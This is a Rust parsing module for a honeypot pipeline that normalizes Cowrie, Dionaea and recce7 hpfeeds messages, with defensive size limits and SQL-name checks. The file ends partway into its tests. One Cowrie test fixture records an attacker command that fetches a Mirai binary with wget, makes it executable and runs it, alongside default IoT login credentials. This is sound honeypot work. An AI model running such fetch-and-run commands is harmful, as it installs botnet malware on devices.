//! One hpfeeds message in, one normalized record (or one rejection) out.
//!
//! Pure functions only: no I/O, no clock, no global state. The caller (the normalizer's consumer
//! loop) hands over the channel, the publisher's ident and the payload bytes; [`parse`] answers
//! with a [`Parsed`] record or a [`Rejection`] whose text is short enough to keep beside the
//! payload in the quarantine table.
//!
//! Three payload families are understood, selected by channel ([`channel_kind`]):
//!
//! - `cowrie.sessions`: one summary per Cowrie session, as Cowrie's `output/hpfeeds3.py`
//!   publishes it when the session closes (and the CommunityHoneyNetwork fork, which adds
//!   `tags`, `hassh` and other key-exchange fields).
//! - `dionaea.connections`: one message per Dionaea connection incident (`accept`, `connect`,
//!   `reject`, `pending`, `listen`), as `dionaea/hpfeeds.py` publishes it.
//! - anything else: the recce7 event JSON (`store::Event`), as recce7 sensors publish it on
//!   `recce7.events`.
//!
//! Attacker-controlled text never makes a rejection message long: names and serde messages
//! quoted in a [`Rejection`] are clipped and their control characters escaped.

use std::net::IpAddr;

use serde::Serialize;
use serde::de::DeserializeOwned;
use serde_json::{Map, Value};
use sha1::{Digest, Sha1};
use store::{Event, EventType, SCHEMA_VERSION};
use time::format_description::well_known::Rfc3339;
use time::{Date, Month, OffsetDateTime, PrimitiveDateTime, Time, UtcOffset};

/// The channel recce7 sensors publish their events on.
pub const RECCE7_CHANNEL: &str = "recce7.events";
/// The channel Cowrie's hpfeeds3 output publishes session summaries on (its default).
pub const COWRIE_CHANNEL: &str = "cowrie.sessions";
/// The channel Dionaea's hpfeeds handler publishes connection incidents on.
pub const DIONAEA_CHANNEL: &str = "dionaea.connections";

/// Longest accepted `sensor`, `plugin` and `protocol` of a recce7 event, in characters.
pub const MAX_NAME_CHARS: usize = 128;

/// Longest attacker-controlled name or message quoted inside a [`Rejection`], in characters.
const MAX_QUOTED_CHARS: usize = 200;

/// Bounds on what one payload may carry.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PayloadLimits {
    /// Largest payload in bytes (default 1 MiB, hpfeeds3's own cap on a message).
    pub max_payload: usize,
    /// Largest string value (or object key) anywhere in the payload, in bytes (default 64 KiB).
    pub max_field: usize,
    /// Most elements in any array (credentials, commands, ...) and most keys in any object,
    /// `data` included (default 10,000).
    pub max_items: usize,
}

impl Default for PayloadLimits {
    /// 1 MiB payloads, 64 KiB strings, 10,000 items.
    fn default() -> Self {
        PayloadLimits {
            max_payload: 1 << 20,
            max_field: 64 << 10,
            max_items: 10_000,
        }
    }
}

/// Which parser a channel's payloads go to.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum ChannelKind {
    /// The recce7 event JSON (`recce7.events`, and any channel not listed below).
    Recce7,
    /// Cowrie session summaries (`cowrie.sessions`).
    Cowrie,
    /// Dionaea connection incidents (`dionaea.connections`).
    Dionaea,
}

/// The parser for `channel`: `cowrie.sessions` and `dionaea.connections` have their own,
/// every other channel carries the recce7 event JSON.
pub fn channel_kind(channel: &str) -> ChannelKind {
    match channel {
        COWRIE_CHANNEL => ChannelKind::Cowrie,
        DIONAEA_CHANNEL => ChannelKind::Dionaea,
        _ => ChannelKind::Recce7,
    }
}

/// What a message became.
#[derive(Debug, Clone, PartialEq)]
pub enum Parsed {
    /// A recce7 event (channel `recce7.events` or any channel carrying the recce7 event JSON).
    Event(Box<Event>),
    /// One Cowrie session (`cowrie.sessions`).
    Cowrie(Box<CowrieSession>),
    /// One Dionaea connection (`dionaea.connections`).
    Dionaea(Box<DionaeaConnection>),
}

/// Why a payload was not accepted; kept in the quarantine table with the payload.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum Rejection {
    /// The payload is not JSON (or not UTF-8); serde_json's message.
    #[error("not JSON: {0}")]
    NotJson(String),
    /// The payload is larger than [`PayloadLimits::max_payload`]; JSON was not attempted.
    #[error("payload of {size} bytes exceeds {max}")]
    TooLarge {
        /// The payload's size in bytes.
        size: usize,
        /// The limit.
        max: usize,
    },
    /// A recce7 event whose `schema` is a number this build does not know.
    #[error("unknown schema version {0}")]
    UnknownVersion(u64),
    /// A missing or ill-typed field, named: e.g. "field `src_ip`: invalid IP address syntax".
    #[error("wrong schema: {0}")]
    WrongSchema(String),
    /// A string (or object key) longer than allowed; `field` is its path, e.g. `data.body`.
    #[error("field `{field}` is {len} long, more than {max}")]
    FieldTooLong {
        /// The path of the value, e.g. `data.body` or `commands[3]`.
        field: String,
        /// Its length: bytes for [`PayloadLimits::max_field`], characters for names.
        len: usize,
        /// The limit.
        max: usize,
    },
    /// An array or object with more items than [`PayloadLimits::max_items`].
    #[error("field `{field}` has {len} items, more than {max}")]
    TooManyItems {
        /// The path of the array or object, e.g. `credentials` or `data`.
        field: String,
        /// How many items it has.
        len: usize,
        /// The limit.
        max: usize,
    },
    /// A data key or a table name that is not a safe SQL identifier, or collides with a fixed
    /// column or a reserved table. Holds the name (clipped, control characters escaped).
    #[error(
        "`{0}` is not a usable SQL name (unsafe, a keyword, a fixed column or a reserved table)"
    )]
    BadIdentifier(String),
    /// A channel no parser takes. [`parse`] gives it only for an empty channel name, since every
    /// other channel is read as recce7 events; callers that route by channel may use it too.
    #[error("unknown channel `{0}`")]
    UnknownChannel(String),
}

/// One Cowrie session, as Cowrie's hpfeeds3 output summarises it when the session closes.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct CowrieSession {
    /// Derived dedup id: `cowrie-` and the first 32 hex digits of SHA-1(ident, NUL, session).
    pub id: String,
    /// Cowrie's session id as sent (12 hex digits in current Cowrie).
    pub session: String,
    /// When the connection was made, as UTC RFC 3339 with microseconds (the store's format).
    pub start_time: String,
    /// When the session closed, in the same format; `None` when absent, null or empty.
    pub end_time: Option<String>,
    /// The attacker's address (IPv4-mapped IPv6 turned into IPv4).
    pub peer_ip: IpAddr,
    /// The attacker's port.
    pub peer_port: u16,
    /// The honeypot's address the attacker reached (IPv4-mapped IPv6 turned into IPv4).
    pub host_ip: IpAddr,
    /// The honeypot's port the attacker reached.
    pub host_port: u16,
    /// `ssh` or `telnet` as sent; `ssh` when absent or null (the oldest plug-ins sent none).
    pub protocol: String,
    /// The username and password of the successful login, if any.
    pub logged_in: Option<(String, String)>,
    /// Failed logins (username, password), in order.
    pub credentials: Vec<(String, String)>,
    /// Command lines typed, in order.
    pub commands: Vec<String>,
    /// Command lines Cowrie did not know, in order.
    pub unknown_commands: Vec<String>,
    /// URLs of files downloaded during the session.
    pub urls: Vec<String>,
    /// The SSH client's version string, if any.
    pub version: Option<String>,
    /// The HASSH fingerprint of the SSH client (CommunityHoneyNetwork fork), if any.
    pub hassh: Option<String>,
    /// The session's tty log as Cowrie sends it (hex of the ttylog file), if any.
    pub ttylog: Option<String>,
    /// SHA-256 hashes of files downloaded or uploaded.
    pub hashes: Vec<String>,
    /// Every other field, kept as sent (the CHN fork's `tags`, `hasshAlgorithms`, `kexAlgs`...).
    pub extra: Map<String, Value>,
}

/// One Dionaea connection incident.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct DionaeaConnection {
    /// Derived dedup id: `dionaea-` and the first 32 hex digits of SHA-1(ident, NUL, payload).
    pub id: String,
    /// `accept`, `connect`, `reject`, `pending` or `listen`; `unknown` when absent, null or empty.
    pub connection_type: String,
    /// `tcp`, `udp` or `tls`; `unknown` when absent, null or empty.
    pub transport: String,
    /// Dionaea's service (`smbd`, `httpd`, `mssqld`, ...); `unknown` when absent, null or empty.
    pub protocol: String,
    /// The remote end (IPv4-mapped IPv6 turned into IPv4).
    pub remote_ip: IpAddr,
    /// The remote end's port.
    pub remote_port: u16,
    /// The remote end's host name, `None` when absent, null or empty (as for every accept).
    pub remote_hostname: Option<String>,
    /// Dionaea's own address (IPv4-mapped IPv6 turned into IPv4).
    pub local_ip: IpAddr,
    /// Dionaea's own port.
    pub local_port: u16,
    /// Every other field, kept as sent (the CHN fork's `tags` and `event_type`...).
    pub extra: Map<String, Value>,
}

/// Parses one hpfeeds message published on `channel` by `ident`.
///
/// The size is checked first (before any JSON is attempted), then the JSON, then the channel's
/// payload shape and the limits. Never panics, whatever the bytes.
pub fn parse(
    channel: &str,
    ident: &str,
    payload: &[u8],
    limits: &PayloadLimits,
) -> Result<Parsed, Rejection> {
    if payload.len() > limits.max_payload {
        return Err(Rejection::TooLarge {
            size: payload.len(),
            max: limits.max_payload,
        });
    }
    if channel.is_empty() {
        return Err(Rejection::UnknownChannel(String::new()));
    }
    let value: Value =
        serde_json::from_slice(payload).map_err(|e| Rejection::NotJson(quote(&e.to_string())))?;
    match channel_kind(channel) {
        ChannelKind::Recce7 => parse_event(value, limits).map(|e| Parsed::Event(Box::new(e))),
        ChannelKind::Cowrie => {
            parse_cowrie(value, ident, limits).map(|s| Parsed::Cowrie(Box::new(s)))
        }
        ChannelKind::Dionaea => {
            parse_dionaea(value, ident, payload, limits).map(|c| Parsed::Dionaea(Box::new(c)))
        }
    }
}

// ---------------------------------------------------------------------------------------------
// recce7 events

/// Types whose `data` keys name columns of the plug-in instance's table. The other types fill
/// the store's fixed tables from known keys (`session.start` has a `table` key, which is an SQL
/// keyword and so would never pass as a column name).
fn data_keys_are_columns(kind: EventType) -> bool {
    !matches!(
        kind,
        EventType::SessionStart | EventType::SessionEnd | EventType::InputRaw
    )
}

fn parse_event(value: Value, limits: &PayloadLimits) -> Result<Event, Rejection> {
    let Value::Object(obj) = &value else {
        return Err(not_an_object(&value));
    };
    if let Some(n) = obj.get("schema").and_then(Value::as_u64)
        && n != u64::from(SCHEMA_VERSION)
    {
        return Err(Rejection::UnknownVersion(n));
    }
    let mut event = match <Event as serde::Deserialize>::deserialize(&value) {
        Ok(event) => event,
        Err(e) => {
            return Err(wrong(
                first_bad_event_field(obj).unwrap_or_else(|| e.to_string()),
            ));
        }
    };
    if !store::is_id(&event.id) {
        return Err(wrong("field `id`: not a UUID"));
    }
    if !store::is_id(&event.session) {
        return Err(wrong("field `session`: not a UUID"));
    }
    match OffsetDateTime::parse(&event.time, &Rfc3339) {
        Ok(t) => {
            event.time = store_time(t)
                .ok_or_else(|| wrong("field `time`: out of the range 0000-9999 in UTC"))?;
        }
        Err(e) => return Err(wrong(format!("field `time`: not RFC 3339: {e}"))),
    }
    // Every string (keys too) within `max_field`, every array and object (`data` among them)
    // within `max_items`, each named by its path.
    check_bounds(&value, limits)?;
    if data_keys_are_columns(event.kind)
        && let Some(bad) = event
            .data
            .keys()
            .find(|k| !store::is_safe_identifier(k) || store::schema::is_fixed_column(k))
    {
        return Err(Rejection::BadIdentifier(quote(bad)));
    }
    if event.kind == EventType::SessionStart {
        match event.data.get("table") {
            None | Some(Value::Null) => {}
            Some(Value::String(table)) => {
                if !store::is_safe_identifier(table) || store::schema::is_reserved_table(table) {
                    return Err(Rejection::BadIdentifier(quote(table)));
                }
            }
            Some(other) => {
                return Err(wrong(format!(
                    "field `data.table`: expected a string or null, found {}",
                    kind_of(other)
                )));
            }
        }
    }
    for (field, text) in [
        ("sensor", &event.sensor),
        ("plugin", &event.plugin),
        ("protocol", &event.protocol),
    ] {
        if text.is_empty() {
            return Err(wrong(format!("field `{field}`: empty")));
        }
        let chars = text.chars().count();
        if chars > MAX_NAME_CHARS {
            return Err(Rejection::FieldTooLong {
                field: field.into(),
                len: chars,
                max: MAX_NAME_CHARS,
            });
        }
    }
    event.src_ip = event.src_ip.to_canonical();
    event.dst_ip = event.dst_ip.to_canonical();
    Ok(event)
}

/// Names the first missing or ill-typed field of an event object, for a rejection that says
/// which field is wrong (serde's own messages, from a `Value`, do not).
fn first_bad_event_field(obj: &Map<String, Value>) -> Option<String> {
    fn check<T: DeserializeOwned>(obj: &Map<String, Value>, name: &str) -> Option<String> {
        match obj.get(name) {
            None => Some(format!("missing field `{name}`")),
            Some(v) => T::deserialize(v)
                .err()
                .map(|e| format!("field `{name}`: {e}")),
        }
    }
    check::<u32>(obj, "schema")
        .or_else(|| check::<String>(obj, "id"))
        .or_else(|| check::<String>(obj, "sensor"))
        .or_else(|| check::<String>(obj, "session"))
        .or_else(|| check::<String>(obj, "time"))
        .or_else(|| check::<EventType>(obj, "type"))
        .or_else(|| check::<String>(obj, "plugin"))
        .or_else(|| check::<String>(obj, "protocol"))
        .or_else(|| check::<IpAddr>(obj, "src_ip"))
        .or_else(|| check::<u16>(obj, "src_port"))
        .or_else(|| check::<IpAddr>(obj, "dst_ip"))
        .or_else(|| check::<u16>(obj, "dst_port"))
        .or_else(|| check::<Map<String, Value>>(obj, "data"))
}

// ---------------------------------------------------------------------------------------------
// Cowrie

/// The fields [`CowrieSession`] takes apart; everything else goes to `extra`.
const COWRIE_FIELDS: [&str; 17] = [
    "session",
    "startTime",
    "endTime",
    "peerIP",
    "peerPort",
    "hostIP",
    "hostPort",
    "loggedin",
    "credentials",
    "commands",
    "unknownCommands",
    "urls",
    "version",
    "ttylog",
    "hashes",
    "protocol",
    "hassh",
];

fn parse_cowrie(
    value: Value,
    ident: &str,
    limits: &PayloadLimits,
) -> Result<CowrieSession, Rejection> {
    let mut obj = match value {
        Value::Object(obj) => obj,
        other => return Err(not_an_object(&other)),
    };
    check_map_bounds(&obj, limits)?;
    let session = required_str(&mut obj, "session")?;
    if session.is_empty() {
        return Err(wrong("field `session`: empty"));
    }
    let start = required_str(&mut obj, "startTime")?;
    let start_time = cowrie_time(&start, "startTime")?;
    let end_time = match optional_str(&mut obj, "endTime")? {
        None => None,
        Some(s) if s.is_empty() => None,
        Some(s) => Some(cowrie_time(&s, "endTime")?),
    };
    let peer_ip = required_ip(&mut obj, "peerIP")?;
    let peer_port = required_port(&mut obj, "peerPort")?;
    let host_ip = required_ip(&mut obj, "hostIP")?;
    let host_port = required_port(&mut obj, "hostPort")?;
    let protocol = optional_str(&mut obj, "protocol")?.unwrap_or_else(|| "ssh".to_owned());
    let logged_in = match obj.remove("loggedin") {
        None | Some(Value::Null) => None,
        Some(v) => Some(pair(v, "loggedin")?),
    };
    let credentials = match obj.remove("credentials") {
        None | Some(Value::Null) => Vec::new(),
        Some(Value::Array(items)) => items
            .into_iter()
            .enumerate()
            .map(|(i, v)| pair(v, &format!("credentials[{i}]")))
            .collect::<Result<_, _>>()?,
        Some(other) => return Err(expected("credentials", "a list of pairs or null", &other)),
    };
    let commands = str_list(&mut obj, "commands")?;
    let unknown_commands = str_list(&mut obj, "unknownCommands")?;
    let urls = str_list(&mut obj, "urls")?;
    let version = optional_str(&mut obj, "version")?;
    let hassh = optional_str(&mut obj, "hassh")?;
    let ttylog = optional_str(&mut obj, "ttylog")?;
    let hashes = str_list(&mut obj, "hashes")?;
    for name in COWRIE_FIELDS {
        obj.remove(name);
    }
    Ok(CowrieSession {
        id: derived_id("cowrie-", ident, session.as_bytes()),
        session,
        start_time,
        end_time,
        peer_ip,
        peer_port,
        host_ip,
        host_port,
        protocol,
        logged_in,
        credentials,
        commands,
        unknown_commands,
        urls,
        version,
        hassh,
        ttylog,
        hashes,
        extra: obj,
    })
}

/// Cowrie's `timestamp`: `%Y-%m-%dT%H:%M:%S.%fZ` when Cowrie runs with `TZ=UTC`, otherwise
/// `%Y-%m-%dT%H:%M:%S.%f%z` (`+0000`, no colon); plain RFC 3339 is accepted too.
fn cowrie_time(text: &str, field: &str) -> Result<String, Rejection> {
    let t = lenient_time(text)
        .ok_or_else(|| wrong(format!("field `{field}`: not a timestamp: {}", quote(text))))?;
    store_time(t).ok_or_else(|| wrong(format!("field `{field}`: out of the range 0000-9999")))
}

/// `YYYY-MM-DD(T|t| )HH:MM:SS[.fraction](Z|z|±HH:MM|±HHMM)`, fraction of 1 to 9 digits.
fn lenient_time(text: &str) -> Option<OffsetDateTime> {
    let b = text.as_bytes();
    let digits = |from: usize, to: usize| -> Option<u32> {
        let part = b.get(from..to)?;
        if part.is_empty() || !part.iter().all(u8::is_ascii_digit) {
            return None;
        }
        part.iter().try_fold(0u32, |n, d| {
            n.checked_mul(10)?.checked_add(u32::from(d - b'0'))
        })
    };
    let at = |i: usize, allowed: &[u8]| b.get(i).is_some_and(|c| allowed.contains(c));
    if !(at(4, b"-") && at(7, b"-") && at(10, b"Tt ") && at(13, b":") && at(16, b":")) {
        return None;
    }
    let year = i32::try_from(digits(0, 4)?).ok()?;
    let month = Month::try_from(u8::try_from(digits(5, 7)?).ok()?).ok()?;
    let day = u8::try_from(digits(8, 10)?).ok()?;
    let hour = u8::try_from(digits(11, 13)?).ok()?;
    let minute = u8::try_from(digits(14, 16)?).ok()?;
    let second = u8::try_from(digits(17, 19)?).ok()?;
    let mut i = 19;
    let mut nanos = 0u32;
    if at(i, b".") {
        let start = i + 1;
        let mut end = start;
        while b.get(end).is_some_and(u8::is_ascii_digit) {
            end += 1;
        }
        let len = end - start;
        if len == 0 || len > 9 {
            return None;
        }
        nanos =
            digits(start, end)?.checked_mul(10u32.checked_pow(9 - u32::try_from(len).ok()?)?)?;
        i = end;
    }
    let offset = match b.get(i..)? {
        b"Z" | b"z" => UtcOffset::UTC,
        [sign @ (b'+' | b'-'), rest @ ..] => {
            let (h, m) = match rest {
                [_, _, b':', _, _] => (digits(i + 1, i + 3)?, digits(i + 4, i + 6)?),
                [_, _, _, _] => (digits(i + 1, i + 3)?, digits(i + 3, i + 5)?),
                _ => return None,
            };
            let h = i8::try_from(h).ok()?;
            let m = i8::try_from(m).ok()?;
            if h > 23 || m > 59 {
                return None;
            }
            if *sign == b'-' {
                UtcOffset::from_hms(-h, -m, 0).ok()?
            } else {
                UtcOffset::from_hms(h, m, 0).ok()?
            }
        }
        _ => return None,
    };
    let date = Date::from_calendar_date(year, month, day).ok()?;
    let time = Time::from_hms_nano(hour, minute, second, nanos).ok()?;
    Some(PrimitiveDateTime::new(date, time).assume_offset(offset))
}

// ---------------------------------------------------------------------------------------------
// Dionaea

/// The fields [`DionaeaConnection`] takes apart; everything else goes to `extra`.
const DIONAEA_FIELDS: [&str; 8] = [
    "connection_type",
    "connection_transport",
    "connection_protocol",
    "remote_host",
    "remote_port",
    "remote_hostname",
    "local_host",
    "local_port",
];

fn parse_dionaea(
    value: Value,
    ident: &str,
    payload: &[u8],
    limits: &PayloadLimits,
) -> Result<DionaeaConnection, Rejection> {
    let mut obj = match value {
        Value::Object(obj) => obj,
        other => return Err(not_an_object(&other)),
    };
    check_map_bounds(&obj, limits)?;
    let mut name = |field: &str| -> Result<String, Rejection> {
        Ok(optional_str(&mut obj, field)?
            .filter(|s| !s.is_empty())
            .unwrap_or_else(|| "unknown".to_owned()))
    };
    let connection_type = name("connection_type")?;
    let transport = name("connection_transport")?;
    let protocol = name("connection_protocol")?;
    let remote_ip = required_ip(&mut obj, "remote_host")?;
    let remote_port = required_port(&mut obj, "remote_port")?;
    let remote_hostname = optional_str(&mut obj, "remote_hostname")?.filter(|s| !s.is_empty());
    let local_ip = required_ip(&mut obj, "local_host")?;
    let local_port = required_port(&mut obj, "local_port")?;
    for field in DIONAEA_FIELDS {
        obj.remove(field);
    }
    Ok(DionaeaConnection {
        id: derived_id("dionaea-", ident, payload),
        connection_type,
        transport,
        protocol,
        remote_ip,
        remote_port,
        remote_hostname,
        local_ip,
        local_port,
        extra: obj,
    })
}

// ---------------------------------------------------------------------------------------------
// Shared helpers

/// `prefix` and the first 32 hex digits of SHA-1(`ident`, NUL, `body`).
fn derived_id(prefix: &str, ident: &str, body: &[u8]) -> String {
    let mut hasher = Sha1::new();
    hasher.update(ident.as_bytes());
    hasher.update([0u8]);
    hasher.update(body);
    let digest = hasher.finalize();
    let mut id = String::with_capacity(prefix.len() + 32);
    id.push_str(prefix);
    for byte in digest.iter().take(16) {
        id.push(hex_digit(byte >> 4));
        id.push(hex_digit(byte & 0x0f));
    }
    id
}

fn hex_digit(nibble: u8) -> char {
    char::from(b"0123456789abcdef"[usize::from(nibble & 0x0f)])
}

/// `t` in the store's format (UTC RFC 3339 with microseconds), if its UTC year has 4 digits.
fn store_time(t: OffsetDateTime) -> Option<String> {
    let utc = t.checked_to_offset(UtcOffset::UTC)?;
    (0..=9999)
        .contains(&utc.year())
        .then(|| store::event::format_rfc3339(utc))
}

fn wrong(message: impl Into<String>) -> Rejection {
    Rejection::WrongSchema(quote(&message.into()))
}

fn not_an_object(value: &Value) -> Rejection {
    wrong(format!("expected a JSON object, found {}", kind_of(value)))
}

fn expected(field: &str, what: &str, found: &Value) -> Rejection {
    wrong(format!(
        "field `{field}`: expected {what}, found {}",
        kind_of(found)
    ))
}

fn kind_of(value: &Value) -> &'static str {
    match value {
        Value::Null => "null",
        Value::Bool(_) => "a boolean",
        Value::Number(_) => "a number",
        Value::String(_) => "a string",
        Value::Array(_) => "an array",
        Value::Object(_) => "an object",
    }
}

/// A required string field, removed from `obj`.
fn required_str(obj: &mut Map<String, Value>, field: &str) -> Result<String, Rejection> {
    match obj.remove(field) {
        None | Some(Value::Null) => Err(wrong(format!("missing field `{field}`"))),
        Some(Value::String(s)) => Ok(s),
        Some(other) => Err(expected(field, "a string", &other)),
    }
}

/// An optional string field (absent or null: `None`), removed from `obj`.
fn optional_str(obj: &mut Map<String, Value>, field: &str) -> Result<Option<String>, Rejection> {
    match obj.remove(field) {
        None | Some(Value::Null) => Ok(None),
        Some(Value::String(s)) => Ok(Some(s)),
        Some(other) => Err(expected(field, "a string or null", &other)),
    }
}

/// A required IP address given as text, removed from `obj`; IPv4-mapped IPv6 becomes IPv4.
fn required_ip(obj: &mut Map<String, Value>, field: &str) -> Result<IpAddr, Rejection> {
    let text = required_str(obj, field)?;
    if text.is_empty() {
        return Err(wrong(format!("field `{field}`: empty address")));
    }
    text.parse::<IpAddr>()
        .map(|ip| ip.to_canonical())
        .map_err(|e| wrong(format!("field `{field}`: {e}: {}", quote(&text))))
}

/// A required port, as a number or a string of digits, removed from `obj`.
fn required_port(obj: &mut Map<String, Value>, field: &str) -> Result<u16, Rejection> {
    let port = match obj.remove(field) {
        None | Some(Value::Null) => return Err(wrong(format!("missing field `{field}`"))),
        Some(Value::Number(n)) => n.as_u64().and_then(|n| u16::try_from(n).ok()),
        Some(Value::String(s)) if s.bytes().all(|b| b.is_ascii_digit()) => s.parse::<u16>().ok(),
        Some(Value::String(_)) => None,
        Some(other) => return Err(expected(field, "a port number", &other)),
    };
    port.ok_or_else(|| wrong(format!("field `{field}`: not a port number 0-65535")))
}

/// A `[username, password]` pair of strings.
fn pair(value: Value, field: &str) -> Result<(String, String), Rejection> {
    match value {
        Value::Array(items) if items.len() == 2 => {
            let mut items = items.into_iter();
            match (items.next(), items.next()) {
                (Some(Value::String(user)), Some(Value::String(pass))) => Ok((user, pass)),
                _ => Err(wrong(format!(
                    "field `{field}`: expected [username, password] as two strings"
                ))),
            }
        }
        Value::Array(items) => Err(wrong(format!(
            "field `{field}`: expected [username, password], found {} items",
            items.len()
        ))),
        other => Err(expected(field, "[username, password]", &other)),
    }
}

/// An optional list of strings (absent or null: empty), removed from `obj`.
fn str_list(obj: &mut Map<String, Value>, field: &str) -> Result<Vec<String>, Rejection> {
    match obj.remove(field) {
        None | Some(Value::Null) => Ok(Vec::new()),
        Some(Value::Array(items)) => items
            .into_iter()
            .enumerate()
            .map(|(i, v)| match v {
                Value::String(s) => Ok(s),
                other => Err(expected(&format!("{field}[{i}]"), "a string", &other)),
            })
            .collect(),
        Some(other) => Err(expected(field, "a list of strings or null", &other)),
    }
}

/// One step of a path to a value inside the payload.
enum Step<'a> {
    Key(&'a str),
    Index(usize),
}

/// A value over a limit, with the path to it (innermost step first).
struct Violation<'a> {
    rev_path: Vec<Step<'a>>,
    len: usize,
    too_long: bool,
}

impl Violation<'_> {
    fn into_rejection(self, limits: &PayloadLimits) -> Rejection {
        let mut field = String::new();
        for step in self.rev_path.iter().rev() {
            match step {
                Step::Key(k) => {
                    if !field.is_empty() {
                        field.push('.');
                    }
                    field.push_str(&quote_name(k));
                }
                Step::Index(i) => {
                    field.push('[');
                    field.push_str(&i.to_string());
                    field.push(']');
                }
            }
        }
        if field.is_empty() {
            field.push_str("payload");
        }
        if self.too_long {
            Rejection::FieldTooLong {
                field,
                len: self.len,
                max: limits.max_field,
            }
        } else {
            Rejection::TooManyItems {
                field,
                len: self.len,
                max: limits.max_items,
            }
        }
    }
}

/// Every string and key in `value` at most `max_field` bytes, every array and object at most
/// `max_items` items.
fn check_bounds(value: &Value, limits: &PayloadLimits) -> Result<(), Rejection> {
    walk(value, limits).map_err(|v| v.into_rejection(limits))
}

/// [`check_bounds`] for a top-level object.
fn check_map_bounds(map: &Map<String, Value>, limits: &PayloadLimits) -> Result<(), Rejection> {
    walk_map(map, limits).map_err(|v| v.into_rejection(limits))
}

fn walk<'a>(value: &'a Value, limits: &PayloadLimits) -> Result<(), Violation<'a>> {
    match value {
        Value::String(s) if s.len() > limits.max_field => Err(Violation {
            rev_path: Vec::new(),
            len: s.len(),
            too_long: true,
        }),
        Value::Array(items) => {
            if items.len() > limits.max_items {
                return Err(Violation {
                    rev_path: Vec::new(),
                    len: items.len(),
                    too_long: false,
                });
            }
            for (i, item) in items.iter().enumerate() {
                walk(item, limits).map_err(|mut v| {
                    v.rev_path.push(Step::Index(i));
                    v
                })?;
            }
            Ok(())
        }
        Value::Object(map) => walk_map(map, limits),
        _ => Ok(()),
    }
}

fn walk_map<'a>(map: &'a Map<String, Value>, limits: &PayloadLimits) -> Result<(), Violation<'a>> {
    if map.len() > limits.max_items {
        return Err(Violation {
            rev_path: Vec::new(),
            len: map.len(),
            too_long: false,
        });
    }
    for (key, item) in map {
        if key.len() > limits.max_field {
            return Err(Violation {
                rev_path: vec![Step::Key(key)],
                len: key.len(),
                too_long: true,
            });
        }
        walk(item, limits).map_err(|mut v| {
            v.rev_path.push(Step::Key(key));
            v
        })?;
    }
    Ok(())
}

/// Attacker-controlled text made fit for a rejection message: control characters escaped, at
/// most [`MAX_QUOTED_CHARS`] characters, `...` when clipped.
fn quote(text: &str) -> String {
    clip(text, MAX_QUOTED_CHARS)
}

/// A key in a path: clipped shorter than a message.
fn quote_name(text: &str) -> String {
    clip(text, 64)
}

fn clip(text: &str, max_chars: usize) -> String {
    let mut out = String::with_capacity(text.len().min(max_chars + 8));
    let mut count = 0;
    for c in text.chars() {
        let width = if c.is_control() {
            c.escape_default().count()
        } else {
            1
        };
        if count + width > max_chars {
            out.push_str("...");
            break;
        }
        if c.is_control() {
            out.extend(c.escape_default());
        } else {
            out.push(c);
        }
        count += width;
    }
    out
}

#[cfg(test)]
mod tests {
    use std::net::{Ipv4Addr, Ipv6Addr};

    use serde_json::json;

    use super::*;

    const IDENT: &str = "sensor-1";

    /// The event of docs/events.md, as a sensor publishes it.
    const EVENT: &str = r#"{"schema":1,"id":"01a20a83-aa19-7048-b6f8-da76f3b8d472","sensor":"pi-zero-1","session":"01a20a83-a6fa-706e-a066-f2171e9d8850","time":"2026-11-23T22:25:30.649422Z","type":"telnet.login","plugin":"telnet","protocol":"telnet","src_ip":"127.0.0.1","src_port":36078,"dst_ip":"127.0.0.1","dst_port":2323,"data":{"input_type":"login","username":"root","password":"xc3511"}}"#;

    /// Upstream Cowrie's hpfeeds3 output (`json.dumps(meta)`, TZ=UTC) for a telnet session with
    /// failed logins, a successful one, commands, a download and its ttylog. `hostIP` is
    /// IPv4-mapped: the telnet transport does not normalise addresses on a dual-stack socket.
    const COWRIE_TELNET: &str = r#"{"session": "a3f1c2d4e5b6", "startTime": "2026-11-23T22:25:30.649422Z", "endTime": "2026-11-23T22:26:02.101010Z", "peerIP": "203.0.113.7", "peerPort": 51234, "hostIP": "::ffff:10.0.0.5", "hostPort": 2223, "loggedin": ["root", "xc3511"], "credentials": [["admin", "admin"], ["root", "vizxv"]], "commands": ["enable", "system", "shell", "sh", "/bin/busybox wget http://198.51.100.9/bins/mirai.arm7 -O /tmp/m; chmod +x /tmp/m; /tmp/m"], "unknownCommands": ["enable", "system", "shell"], "urls": ["http://198.51.100.9/bins/mirai.arm7"], "version": null, "ttylog": "03000000000000000900000001000000df6b036b928a0100756e616d65202d610a03000000000000000600000002000000df6b036b321103004c696e75780a", "hashes": ["2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae"], "protocol": "telnet"}"#;

    /// The CommunityHoneyNetwork fork's hpfeeds3 output for an SSH session (Cowrie not in UTC,
    /// so `%z` offsets without a colon), with `tags` and the `cowrie.client.kex` fields.
    const COWRIE_CHN_SSH: &str = r#"{"session": "0b7e2a91c4d3", "startTime": "2026-11-23T23:25:30.649422+0100", "endTime": "2026-11-23T23:25:41.002233+0100", "tags": ["campus", "dmz"], "peerIP": "198.51.100.44", "peerPort": 40522, "hostIP": "10.0.0.5", "hostPort": 2222, "loggedin": null, "credentials": [["root", "123456"], ["root", "password"]], "commands": [], "unknownCommands": [], "urls": [], "version": "SSH-2.0-Go", "ttylog": null, "hashes": [], "protocol": "ssh", "hassh": "b5752e36ba6c5979a575e43178908adf", "hasshAlgorithms": "curve25519-sha256@libssh.org,ecdh-sha2-nistp256;aes128-gcm@openssh.com,aes128-ctr;hmac-sha2-256;none", "kexAlgs": ["curve25519-sha256@libssh.org", "ecdh-sha2-nistp256"], "keyAlgs": ["ssh-rsa", "ecdsa-sha2-nistp256"], "encCS": ["aes128-gcm@openssh.com", "aes128-ctr"], "macCS": ["hmac-sha2-256"], "compCS": ["none"], "langCS": [""], "width": 80, "height": 24}"#;

    /// Dionaea's `connection_publish` (`json.dumps(kwargs)`) for an accept on smbd over a
    /// dual-stack socket.
    const DIONAEA_SMB: &str = r#"{"connection_type": "accept", "connection_transport": "tcp", "connection_protocol": "smbd", "remote_host": "::ffff:198.51.100.23", "remote_port": 49822, "remote_hostname": "", "local_host": "::ffff:10.0.0.5", "local_port": 445}"#;

    /// The CommunityHoneyNetwork fork's version, with `tags` and `event_type`.
